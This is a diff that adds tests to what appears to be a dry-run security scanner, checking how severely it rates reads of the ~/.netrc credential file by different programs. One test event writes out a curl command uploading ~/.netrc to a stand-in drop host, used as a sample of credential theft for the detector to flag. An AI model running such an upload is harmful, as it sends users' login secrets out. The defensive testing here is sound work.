@@ -201,3 +201,16 @@ describe('observedCapabilities', () => {
     expect(observedCapabilities([event('http', 'https://example.com/', { userChosen: true })], honeypot).network).toEqual([]);
   });
 });
+
+describe('a credential file read by the program that owns it', () => {
+  const severities = (events: DryRunEvent[]) => findViolations(events, noCapabilities(), honeypot).filter((violation) => violation.ruleId === 'dryrun-credential-read').map((violation) => `${violation.ruleId}:${violation.severity}`);
+  // A connection out in the same command: a read it could carry away stays critical unless the program owns the file.
+  const out = event('connect', '203.0.113.7:443', { userChosen: true });
+  it('warns when git reads ~/.netrc to log in, and fails when another program, or a program handed the file as data, reads it', () => {
+    expect(severities([event('file-read', '~/.netrc', { canary: true, program: 'git-remote-https' }), out])).toEqual(['dryrun-credential-read:medium']);
+    expect(severities([event('file-read', '~/.netrc', { canary: true, program: 'python3' }), out])).toEqual(['dryrun-credential-read:critical']);
+    expect(severities([event('file-read', '~/.netrc', { canary: true, program: 'curl' }), event('exec', '/usr/bin/curl', { argv: ['curl', '-T', '/home/user/.netrc', 'https://drop.example.invalid/'] }), out])).toEqual(['dryrun-credential-read:critical']);
+    // Handed as its login file (`--netrc-file`), the file is still the program's own.
+    expect(severities([event('file-read', '~/.netrc', { canary: true, program: 'curl' }), event('exec', '/usr/bin/curl', { argv: ['curl', '--netrc-file', '/home/user/.netrc', 'https://api.example.invalid/'] }), out])).toEqual(['dryrun-credential-read:medium']);
+  });
+});
